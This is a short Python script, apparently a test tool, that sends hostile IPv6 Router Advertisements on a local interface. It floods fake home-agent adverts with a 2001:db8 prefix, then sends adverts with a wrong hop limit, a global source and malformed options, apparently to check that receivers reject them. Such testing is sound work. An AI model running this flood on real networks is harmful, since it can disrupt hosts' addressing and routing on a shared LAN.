#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends hostile Router Advertisements from an interface.

ra_flood.py INTERFACE COUNT: as many home agents that nobody has, then one
with a hop limit of 254, one from a global address, and four with options that
are no options: of length 0, past the end, cut, and of the wrong length.
"""
import socket
import struct
import sys


def ones_sum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return total


def advertisement(src, options, hop_limit=255):
    src = socket.inet_pton(socket.AF_INET6, src)
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    icmp = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x20, 0, 0, 0) + options
    padded = icmp + b"\0" * (len(icmp) & 1)
    pseudo = src + dst + struct.pack("!II", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", 0xffff - ones_sum(
        pseudo + padded)) + icmp[4:]
    return (b"\x33\x33\0\0\0\1\2\0\0\0\0\5\x86\xdd" +
            struct.pack("!IHBB", 6 << 28, len(icmp), 58, hop_limit) +
            src + dst + icmp)


def main():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((sys.argv[1], 0))
    info = struct.pack("!BBHHH", 8, 1, 0, 65535, 600)
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xe0, 600, 600, 0) + \
        socket.inet_pton(socket.AF_INET6, "2001:db8:1::bad")
    for i in range(int(sys.argv[2])):
        s.send(advertisement("fe80::bad:%x" % i, info + prefix))
    s.send(advertisement("fe80::bad:1", info, hop_limit=254))
    s.send(advertisement("2001:db8:1::bad", info))
    for bad in (b"\3\0" + bytes(6), b"\3\4\x40\xe0", b"\3",
                b"\3\1\x40\xe0" + bytes(4)):
        s.send(advertisement("fe80::bad:1", info + bad))


if __name__ == "__main__":
    main()
